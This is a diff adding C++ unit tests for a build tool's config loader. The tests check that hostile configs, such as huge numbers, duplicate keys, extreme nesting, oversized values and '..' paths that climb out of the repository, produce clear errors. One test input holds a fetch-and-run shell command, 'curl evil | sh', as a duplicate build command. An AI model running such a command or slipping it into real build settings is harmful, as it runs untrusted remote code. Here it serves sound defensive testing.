@@ -623,5 +623,65 @@ TEST(ConfigTest, TargetsPreferIsGpuOrCpu) {
   EXPECT_NE(error_of(doc).find("targets.prefer"), std::string::npos);
 }
 
+// Hostile configs (issue 22, point 9): each is a ConfigError naming the file and the
+// field, never a crash, a hang or a json exception that names neither.
+TEST(ConfigTest, HostileDocumentsAreErrorsNamingTheField) {
+  const std::string head = R"({"build": {"command": "make"}, "test": {"command": "make test"}, )"
+                           R"("benchmarks": [{"name": "main", "command": "./bench"}])";
+  EXPECT_EQ(load_error(head + R"(, "acceptance": {"min_speedup": 1e400}})"),
+            "acceptance.min_speedup: number out of range: 1e400 (line 1, column 156)");
+  EXPECT_EQ(load_error(head + R"(, "search": {"max_evaluations": 8, "max_evaluations": 800000}})"),
+            "search.max_evaluations: duplicate key \"max_evaluations\" (each field once)");
+  EXPECT_EQ(load_error(R"({"build": {"command": "make"}, "build": {"command": "curl evil | sh"}})"),
+            "build: duplicate key \"build\" (each field once)");
+  EXPECT_EQ(load_error(head + R"(, "llm": )" + std::string(1'000'000, '[') + std::string(1'000'000, ']') + "}"),
+            "llm[0][0][0][0][0]...[0][0][0][0]: nested deeper than 512 levels");
+  std::string objects;
+  for (int i = 0; i < 10'000; ++i) objects += R"({"x": )";
+  EXPECT_EQ(load_error(head + R"(, "gpu": )" + objects), "gpu.x.x.x.x.x...x.x.x.x: nested deeper than 512 levels");
+
+  // Long values: the checks that used std::regex scan by hand now.
+  json doc = minimal();
+  doc["targets"] = {{"functions", {"f"}}, {"unit", {{"add", {std::string(60'000, 'a') + "::"}}}}};
+  std::string message = error_of(doc);
+  EXPECT_EQ(message.rfind(kFile + "targets.unit.add[0]: must be a function name (qualified allowed: ns::fn), got 'aaaa", 0),
+            0u)
+      << message.substr(0, 200);
+  EXPECT_LT(message.size(), 1300u);
+  doc["targets"] = {{"functions", {"f"}}, {"unit", {{"add", {"ns::" + std::string(60'000, 'a')}}}}};
+  EXPECT_EQ(error_of(doc), "(no error)");
+  std::string product = "n";
+  for (int i = 0; i < 30'000; ++i) product += " * n";
+  doc["targets"] = {{"functions", {"f"}}, {"interface", {{"out", product}}}};
+  EXPECT_EQ(error_of(doc), "(no error)");
+  doc["targets"]["interface"]["out"] = product + " *";
+  EXPECT_NE(error_of(doc).find(kFile + "targets.interface.out: must be a product of parameter names and whole numbers"),
+            std::string::npos);
+  doc = minimal();
+  doc["benchmarks"][0]["metric"] = "kernels";
+  doc["benchmarks"][0]["kernels"] = {std::string(300, '(') + "k" + std::string(300, ')')};
+  EXPECT_EQ(error_of(doc), kFile + "benchmarks[0].kernels[0]: a pattern of at most 256 characters, got 601");
+  // An unknown field of 50 MB: named by its first bytes, found fast.
+  doc = minimal();
+  doc[std::string(50'000'000, 'k')] = 1;
+  message = error_of(doc);
+  EXPECT_NE(message.find("... (50000000 bytes): unknown field (known fields: $schema, build"), std::string::npos)
+      << message.substr(0, 200);
+  EXPECT_LT(message.size(), 1300u);
+}
+
+TEST(ConfigTest, PathsMayNotLeaveTheRepository) {
+  json doc = minimal();
+  doc["search"] = {{"replay_dir", "../../replay"}};
+  EXPECT_EQ(error_of(doc),
+            kFile + "search.replay_dir: must stay inside the repository ('..' climbs out of it), got '../../replay'");
+  doc = minimal();
+  doc["scope"] = {{"include", {"src/**", "src/../../**"}}};
+  EXPECT_EQ(error_of(doc),
+            kFile + "scope.include[1]: must stay inside the repository ('..' climbs out of it), got 'src/../../**'");
+  doc["scope"] = {{"include", {"src/../lib/**"}}};
+  EXPECT_EQ(error_of(doc), "(no error)");
+}
+
 }  // namespace
 }  // namespace maxcode
